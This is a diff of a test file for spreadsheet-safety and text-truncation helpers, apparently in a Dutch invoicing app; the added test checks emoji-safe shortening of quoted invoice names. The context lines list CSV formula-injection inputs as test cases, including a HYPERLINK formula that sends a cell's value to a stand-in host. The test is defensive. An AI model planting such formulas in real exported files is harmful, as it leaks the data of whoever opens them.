@@ -1,5 +1,6 @@
 import { formulaSafe, jsonEscapedControls, safeCellText, visibleControls } from "../../src/i18n/safeText";
 import { quote } from "../../src/i18n/messages";
+import { invoiceName } from "../../src/i18n/xaf-messages";
 
 describe("formulaSafe (OWASP CSV injection)", () => {
   it.each(["=1+2", "+31 Amsterdam", "-2025", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+2", "＋31", "－2025", "＠SUM(A1)", '=HYPERLINK("http://x.test/?"&A1,"klik")'])("prefixes %j with a quote", (text) => {
@@ -35,6 +36,10 @@ describe("visibleControls", () => {
   it("keeps accents, the euro sign and emoji (with their joiner)", () => {
     const text = "Café € 👩‍💻 Zoë";
     expect(visibleControls(text)).toBe(text);
+  });
+  it("never cuts a character in half when a long quoted text is shortened", () => {
+    expect(quote(`${"x".repeat(56)}😀${"y".repeat(10)}`)).toBe(`"${"x".repeat(56)}😀..."`);
+    expect(invoiceName(`${"F".repeat(56)}😀${"1".repeat(10)}`, null).nl).toBe(`boeking ${"F".repeat(56)}😀...`);
   });
   it("is applied to cell text quoted in messages", () => {
     expect(quote("12\u202E34")).toBe('"12\\u202E34"');
